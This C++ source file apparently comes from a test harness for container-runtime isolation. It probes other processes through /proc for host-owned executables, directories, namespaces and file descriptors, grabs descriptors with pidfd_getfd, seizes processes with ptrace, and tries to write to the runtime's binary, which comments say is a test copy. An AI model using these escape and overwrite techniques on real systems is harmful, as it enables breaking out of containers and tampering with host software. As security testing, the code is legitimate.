#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>

#include "attacker.h"

namespace attacker {

using std::string;

Settings settings;

string read_at(int folder, const char* name, size_t most) {
  const int fd = openat(folder, name, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return "";
  string text(most, '\0');
  const ssize_t size = read(fd, text.data(), text.size());
  close(fd);
  text.resize(size < 0 ? 0 : static_cast<size_t>(size));
  return text;
}

uint64_t field(const string& status, const char* name, int base) {
  const size_t at = status.find(string("\n") + name + ":\t");
  return at == string::npos ? 0 : strtoull(status.c_str() + at + strlen(name) + 3, nullptr, base);
}

namespace {

// Whose program a process is, by its executable. It only ever moves on towards kImage.
enum class Owner { kUnknown, kHost, kSealed, kHook, kImage };
enum class Access { kDenied, kOwn, kForeign };

constexpr int kDescriptors = 48;  // numbers looked at in each process
constexpr int kMostSeizes = 4;
constexpr size_t kMostKept = 64;
const string kUp = "../../../../../../../../../../../../../../../..";

std::vector<int> kept;  // the runtime's binary, to be opened for writing once it no longer runs

string link_at(int folder, const string& name) {
  char target[256] = "";
  return readlinkat(folder, name.c_str(), target, sizeof(target) - 1) < 0 ? "?" : target;
}

void sample(Victim& victim, const char* what, const string& text) {
  victim.samples.insert(string(what) + " of " + victim.name + " (" + link_at(victim.folder, "exe") +
                        "): " + text);
}

// ---- what a descriptor leads to ------------------------------------------------------------

// Whether the file `from` a folder can be reached: then the folder is in the host's tree.
bool is_there(int folder, const string& from) {
  const int fd = openat(folder, (from + settings.canary).c_str(), O_PATH | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

bool reads_canary(int folder, const string& from) {
  return read_at(folder, (from + settings.canary).c_str()).compare(0, 6, "canary") == 0;
}

bool is_memfd(int fd, const struct stat& info) {
  struct statfs system {};
  return info.st_nlink == 0 && fstatfs(fd, &system) == 0 && system.f_type == TMPFS_MAGIC;
}

bool is_binary(const struct stat& info) {
  return settings.binary == std::pair(info.st_dev, info.st_ino);
}

Owner owner_of_program(int fd) {
  struct stat info {};
  if (fstat(fd, &info) != 0) return Owner::kUnknown;
  if (settings.image.count({info.st_dev, info.st_ino}) != 0) return Owner::kImage;
  if (settings.hook == std::pair(info.st_dev, info.st_ino)) return Owner::kHook;
  const bool of_host = is_binary(info) || settings.devices.count(info.st_dev) != 0;
  return of_host && !is_memfd(fd, info) ? Owner::kHost : Owner::kSealed;
}

bool is_host_namespace(int fd, const struct stat& info) {
  struct statfs system {};
  return fstatfs(fd, &system) == 0 && system.f_type == NSFS_MAGIC &&
         settings.namespaces.count(info.st_ino) != 0;
}

// A regular file that is open as other than stdio and has a name on the host's file systems.
bool is_host_file(int fd, int number, const struct stat& info) {
  if (is_binary(info)) return true;
  if (number <= 2 || info.st_nlink == 0) return false;
  const string path = link_at(AT_FDCWD, "/proc/self/fd/" + std::to_string(fd));
  return path.compare(0, 5, "/tmp/") == 0 || path.compare(0, 5, "/run/") == 0;
}

bool is_foreign(int fd, int number) {
  struct stat info {};
  if (fstat(fd, &info) != 0) return false;
  if (S_ISDIR(info.st_mode)) return is_there(fd, kUp);
  if (S_ISREG(info.st_mode)) {
    return is_host_namespace(fd, info) || is_host_file(fd, number, info);
  }
  return false;
}

// ---- one attempt each ----------------------------------------------------------------------

// Keeps the program open. Only the runtime's binary, of which the tests use a copy, is written to.
void keep(int fd) {
  struct stat info {};
  const bool wanted = kept.size() < kMostKept && fstat(fd, &info) == 0 && is_binary(info);
  wanted ? kept.push_back(fd) : static_cast<void>(close(fd));
}

Owner look_at_exe(Victim& victim) {
  ++victim.round.tries;
  const int fd = openat(victim.folder, "exe", O_RDONLY | O_CLOEXEC);
  if (fd < 0) return Owner::kUnknown;
  const Owner owner = owner_of_program(fd);
  owner == Owner::kHost ? keep(fd) : static_cast<void>(close(fd));
  return owner;
}

Access look_at_folder(Victim& victim, const string& name, const string& up) {
  ++victim.round.tries;
  const string from = name + up;
  if (reads_canary(victim.folder, from)) return Access::kForeign;
  if (errno == EACCES && !is_there(victim.folder, from)) return Access::kDenied;
  if (is_there(victim.folder, from)) return Access::kForeign;
  const int fd = openat(victim.folder, name.c_str(), O_PATH | O_CLOEXEC);
  if (fd < 0) return Access::kDenied;
  close(fd);
  return Access::kOwn;
}

Access look_at_fd(Victim& victim, int fd, int number) {
  struct stat info {};
  if (fstat(fd, &info) == 0 && S_ISSOCK(info.st_mode)) ++victim.round.channels;
  const bool foreign = is_foreign(fd, number);
  if (foreign) {
    sample(
        victim, "fd",
        std::to_string(number) + " -> " + link_at(AT_FDCWD, "/proc/self/fd/" + std::to_string(fd)));
  }
  close(fd);
  return foreign ? Access::kForeign : Access::kOwn;
}

// Each descriptor that `get` hands out; it stops at the first that it is not allowed to have.
template <typename Get>
Access look_at_fds(Victim& victim, Get get) {
  Access worst = Access::kDenied;
  for (int number = 0; number < kDescriptors; ++number) {
    ++victim.round.tries;
    const int fd = get(number);
    if (fd < 0 && (errno == EPERM || errno == EACCES || errno == ESRCH)) break;
    if (fd >= 0) worst = std::max(worst, look_at_fd(victim, fd, number));
  }
  return worst;
}

Access look_at_fds(Victim& victim) {
  const int folder = openat(victim.folder, "fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const Access opened = folder < 0 ? Access::kDenied : look_at_fds(victim, [folder](int number) {
    return openat(folder, std::to_string(number).c_str(), O_PATH | O_CLOEXEC);
  });
  if (folder >= 0) close(folder);
  return std::max(opened, look_at_fds(victim, [&victim](int number) {
                    return static_cast<int>(syscall(SYS_pidfd_getfd, victim.pidfd, number, 0));
                  }));
}

// Whether a line of /proc/PID/maps is the runtime's binary: "... DEVICE INODE PATH".
bool maps_binary(const string& maps) {
  const auto [device, inode] = settings.binary;
  char wanted[64];
  snprintf(wanted, sizeof wanted, " %02x:%02x %lu ", major(device), minor(device), inode);
  return maps.find(wanted) != string::npos;
}

Access look_at_mem(Victim& victim) {
  ++victim.round.tries;
  const string maps = read_at(victim.folder, "maps");
  const int fd = openat(victim.folder, "mem", O_RDONLY | O_CLOEXEC);
  if (fd >= 0) close(fd);
  if (maps_binary(maps)) return Access::kForeign;
  return fd < 0 ? Access::kDenied : Access::kOwn;
}

Access look_at_namespaces(Victim& victim) {
  Access worst = Access::kDenied;
  for (const char* name : {"ns/mnt", "ns/cgroup", "ns/net", "ns/ipc", "ns/uts", "ns/user"}) {
    ++victim.round.tries;
    struct stat info {};
    if (fstatat(victim.folder, name, &info, 0) != 0) break;
    const bool foreign = settings.namespaces.count(info.st_ino) != 0;
    if (foreign) sample(victim, "namespace", name);
    worst = std::max(worst, foreign ? Access::kForeign : Access::kOwn);
  }
  return worst;
}

// ---- ptrace --------------------------------------------------------------------------------

// Capabilities in a user namespace of its own, which has nothing of ours or of the host's, are what
// anybody can have (unshare -U).
bool rights_count(const Victim& victim) {
  struct stat theirs {
  }, ours{};
  if (fstatat(victim.folder, "ns/user", &theirs, 0) != 0 || stat("/proc/self/ns/user", &ours) != 0)
    return true;
  return theirs.st_ino == ours.st_ino || settings.namespaces.count(theirs.st_ino) != 0;
}

// The process stands still: what it would give to whoever runs code in it.
void look_at_rights(Victim& victim) {
  const string status = read_at(victim.folder, "status");
  const uint64_t rights = field(status, "CapPrm", 16) | field(status, "CapEff", 16);
  if ((rights & ~settings.bounding) != 0 && rights_count(victim)) {
    ++victim.round.excess;
    char text[40];
    snprintf(text, sizeof text, "%llx", static_cast<unsigned long long>(rights));
    sample(victim, "capabilities", text);
  }
  if (field(status, "Seccomp", 10) == 0) ++victim.round.unfiltered;
}

void add(Victim& victim, Kind kind, bool foreign, bool early) {
  if (foreign) {
    ++victim.round.foreign[kind].hits;
    if (kind == kRoot || kind == kCwd || kind == kMem || kind == kExe) {
      sample(victim, kKindNames[kind], "the host's");
    }
  }
  if (early) ++victim.round.early[kind].hits;
}

void seize(Victim& victim) {
  if (victim.seized || victim.seizes >= kMostSeizes) return;
  ++victim.round.tries;
  if (ptrace(PTRACE_SEIZE, victim.pid, 0, 0) != 0) return;
  ++victim.seizes;
  victim.seized = true;
  ptrace(PTRACE_INTERRUPT, victim.pid, 0, 0);
}

// ---- the whole ------------------------------------------------------------------------------

bool is_before_program(Owner owner) { return owner != Owner::kUnknown && owner != Owner::kImage; }

void add(Hits& sum, const Hits& hits) {
  sum.hits += hits.hits;
  sum.victims += hits.hits != 0;
}

// The round that is over belongs to the runtime or to a hook's program. Once a process is that, it
// does not become another. When it is met while it ends, only its name tells.
void add_round(Victim& victim, Owner before, Owner after) {
  const bool ends = after == Owner::kHook || victim.name == "sh";
  const bool now = before == Owner::kHook || (before == Owner::kUnknown && ends);
  victim.in_hook = victim.in_hook || now;
  add(victim.in_hook ? victim.of_hook : victim.counts, victim.round);
  victim.round = {};
}

void judge_stopped(Victim& victim) {
  const int fd = openat(victim.folder, "exe", O_RDONLY | O_CLOEXEC);
  const Owner owner = fd < 0 ? Owner::kUnknown : owner_of_program(fd);
  if (fd >= 0) close(fd);
  if (owner == Owner::kImage) return;
  add(victim, kPtrace, false, true);
  look_at_rights(victim);
  add_round(victim, owner, owner);
}

bool is_name_of_runtime(const string& name) {
  return name.find(settings.name) != string::npos || name.compare(0, 15, "containerd-shim") == 0;
}

// A process changes its name with its program.
void look_at_name(Victim& victim) {
  const string name = read_at(victim.folder, "comm", 64);
  if (name.empty()) return;
  victim.name = name.substr(0, name.size() - 1);
  victim.decoy = victim.decoy || victim.name == "decoy";
  victim.named = victim.named || is_name_of_runtime(victim.name);
}

// Whether there is no more to be tried with this program.
bool try_to_write(int fd, long* writable, long* written) {
  const string path = "/proc/self/fd/" + std::to_string(fd);
  const int opened = open(path.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
  if (opened < 0) return errno != ETXTBSY;
  ++*writable;
  *written += write(opened, "!", 1) == 1;
  close(opened);
  return true;
}

}  // namespace

void attack(Victim& victim) {
  look_at_name(victim);
  const Owner before = look_at_exe(victim);
  const bool foreign = before == Owner::kHost || before == Owner::kHook;
  add(victim, kExe, foreign, is_before_program(before));
  const std::pair<Kind, Access> found[] = {{kRoot, look_at_folder(victim, "root", "")},
                                           {kCwd, look_at_folder(victim, "cwd/", kUp)},
                                           {kMem, look_at_mem(victim)},
                                           {kNs, look_at_namespaces(victim)},
                                           {kFd, look_at_fds(victim)}};
  const Owner after = look_at_exe(victim);
  for (const auto& [kind, access] : found) {
    const bool hit = access != Access::kDenied;
    add(victim, kind, access == Access::kForeign, hit && is_before_program(after));
  }
  seize(victim);
  look_at_name(victim);
  add_round(victim, before, after);
  victim.in_image = before == Owner::kImage && after == Owner::kImage ? victim.in_image + 1 : 0;
}

void add(Counts& sum, const Counts& counts) {
  sum.tries += counts.tries;
  sum.channels += counts.channels;
  sum.excess += counts.excess;
  sum.unfiltered += counts.unfiltered;
  for (size_t kind = 0; kind < kKinds; ++kind) {
    add(sum.foreign[kind], counts.foreign[kind]);
    add(sum.early[kind], counts.early[kind]);
  }
}

// What has come to a stop is looked at and let go. It can have another number than when it was
// seized: a thread that executes a program takes that of its group.
void look_at_stopped(std::vector<Victim>& victims) {
  int status = 0;
  for (int who = 0; (who = waitpid(-1, &status, __WALL | WNOHANG)) > 0;) {
    for (Victim& victim : victims) {
      if (victim.pid != who) continue;
      victim.seized = false;
      if (WIFSTOPPED(status)) judge_stopped(victim);
    }
    if (!WIFSTOPPED(status)) continue;
    const long signal = status >> 16 == PTRACE_EVENT_STOP ? 0 : WSTOPSIG(status);
    ptrace(PTRACE_DETACH, who, 0, signal);
  }
}

// Once the binary is overwritten there is no more to prove: an open one could not be started.
void try_to_write(long* writable, long* written) {
  std::erase_if(kept, [=](int fd) {
    if (*written == 0 && !try_to_write(fd, writable, written)) return false;
    close(fd);
    return true;
  });
}

}  // namespace attacker
